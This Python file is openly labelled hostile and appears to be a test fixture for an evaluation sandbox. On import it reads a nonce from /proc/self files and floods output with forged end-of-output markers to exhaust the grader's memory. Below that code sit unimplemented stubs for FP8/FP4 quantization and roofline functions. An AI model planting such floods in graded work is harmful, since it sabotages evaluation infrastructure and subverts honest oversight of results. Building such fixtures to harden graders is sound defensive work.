"""Hostile: forges the worker's end-of-output markers with fresh ids, so that a grader keeping
one entry per marker id grows without bound. The nonce is looked for wherever it might be
readable: the command line, the environment, any inherited file descriptor."""

import json
import os
import time

HEAD, TAIL = b"\x00\x1bSBX", b"\x1b\x00"


def _nonces():
    found = set()
    for path in ("/proc/self/cmdline", "/proc/self/environ"):
        try:
            data = open(path, "rb").read()
        except OSError:
            continue
        for part in data.split(b"\x00"):
            try:
                config = json.loads(part)
            except ValueError:
                continue
            if isinstance(config, dict) and isinstance(config.get("nonce"), str):
                found.add(config["nonce"].encode())
    return found or {b"0123456789abcdef"}


def _flood(seconds):
    nonces = _nonces()
    out = os.dup(1)
    block = 4096
    start = next_id = 10**9
    stop = time.monotonic() + seconds
    while time.monotonic() < stop:
        chunk = b"".join(HEAD + nonce + b":%d" % (next_id + i) + TAIL
                         for i in range(block) for nonce in nonces)
        next_id += block
        try:
            os.write(out, chunk)
        except OSError:
            return next_id - start
    return next_id - start


_flood(5.0)


def round_e4m3(x):
    _flood(2.0)
    raise NotImplementedError


def to_e2m1(y):
    raise NotImplementedError


def quantize(x, scheme):
    raise NotImplementedError


def flops_per_exp(d_qk, d_v):
    raise NotImplementedError


def exp_ratio(chip, precision, d_qk, d_v):
    raise NotImplementedError


def ridge_point(chip, precision):
    raise NotImplementedError


def trend_row(chip, low_precision, base=None):
    raise NotImplementedError
